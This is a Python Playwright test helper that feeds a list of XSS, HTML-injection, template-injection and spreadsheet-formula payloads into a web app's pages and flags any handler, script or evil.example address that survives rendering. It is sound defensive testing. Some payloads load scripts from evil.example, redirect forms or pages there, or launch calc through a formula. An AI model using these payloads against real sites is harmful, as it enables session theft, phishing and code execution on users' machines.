"""Texts that are attacks where a page takes them for more than text, each of a way of its own, and what a real browser
says of a page that shows them."""

from collections.abc import Iterable
from urllib.parse import quote

from playwright.sync_api import Page

HOSTILE = (
    # elements that run
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<!--<script>alert(2)",
    "--><script>alert(3)</script><!--",
    "]]><script>alert(4)</script><![CDATA[",
    "</title></textarea></style><script>alert(5)</script>",
    "<svg><script>alert(6)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(7)</script>'>",
    # handlers
    "<img src=x onerror=alert(8)>",
    "\"'><svg onload=alert(9)>",
    '" autofocus onfocus=alert(10) x="',
    "' onmouseover='alert(11)",
    "<details open ontoggle=alert(12)>",
    "<svg><animate onbegin=alert(13) attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=alert(14)></style></mtext></math>",
    # addresses
    "javascript:alert(15)",
    "JaVaScRiPt&colon;alert(16)",
    "<svg><a xlink:href='javascript:alert(17)'><text>点</text></a></svg>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxOCk8L3NjcmlwdD4=",
    "<a href=http://evil.example>x</a>",
    # what changes the page around it
    "x\u2028</title><base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<form action=http://evil.example><button>登录</button></form>",
    # what is decoded once too often
    "&lt;script&gt;alert(19)&lt;/script&gt;",
    "%3Cscript%3Ealert(20)%3C/script%3E",
    "\\u003cscript\\u003ealert(21)\\u003c/script\\u003e",
    "＜script＞alert(22)＜/script＞",
    # templates, scripts' own texts, spreadsheets
    "{{7*7}}${7*7}{%print(7*7)%}",
    "'-alert(23)-'\\'-alert(24)//",
    "=cmd|'/c calc'!A1",
    '@HYPERLINK("http://evil.example")',
    # letters that are not seen, or seen elsewhere
    "\u202e<gnp.exe\u202c\u200b\u2066<b\u2069",
    "\x01\x1b[2J\x7f<i>",
    "长" * 60 + "<p>",
)
# What is wrong with a document: each element or attribute that no template of ours writes.
_TROUBLES = """held => [...held.querySelectorAll('*')].flatMap(each => [
  ...[...each.attributes].filter(a => /^on/i.test(a.name)).map(a => `${each.tagName} ${a.name}`),
  ...(['BASE', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'MATH', 'ANIMATE'].includes(each.tagName.toUpperCase()) ? [each.tagName] : []),
  ...(each.matches('meta[http-equiv]') ? ['META'] : []),
  ...(each.matches('script') && !(/^[/](static|lib)[/]/.test(each.getAttribute('src')) && !each.textContent)
    && each.type !== 'application/json' ? ['SCRIPT'] : []),
  ...['href', 'src', 'action', 'formaction', 'xlink:href'].filter(name =>
    /^\\s*(javascript|vbscript)\\s*:|^\\s*data:text|^(https?:)?[/][/]evil/i.test(each.getAttribute(name))).map(name => `${each.tagName} ${name}`),
])"""
_AT = """said => said.flatMap(([address, ok, text, answer]) => {
  const page = new DOMParser().parseFromString(answer, 'text/html')
  const values = [...page.querySelectorAll('[value]')].map(each => each.getAttribute('value'))
  const shown = !ok || page.body.textContent.includes(text) || values.some(value => value.includes(text))
  return [...(%s)(page), ...(shown ? [] : ['not shown'])].map(trouble => `${address}: ${trouble}`)
})"""


def troubles(page: Page) -> list[str]:
    """What the page in the browser holds that no template of ours writes: handlers, scripts, foreign addresses."""
    found: list[str] = page.evaluate(f"({_TROUBLES})(document)")
    return found


def troubles_at(page: Page, base: str, paths: Iterable[str]) -> list[str]:
    """The same of pages that say again what their address says: each text in each path, in the place of `{}`. The browser
    parses them and shows none, so that it is quick; told is also a page that does not hold the text as it was."""
    said = []
    for path in paths:
        for text in HOSTILE:
            address = base + path.format(quote(text, safe=""))
            answer = page.request.get(address, headers={"accept": "text/html"})
            assert answer.status < 500, address
            said.append([address, answer.ok, text, answer.text()])
    found: list[str] = page.evaluate(_AT % _TROUBLES, said)
    return found
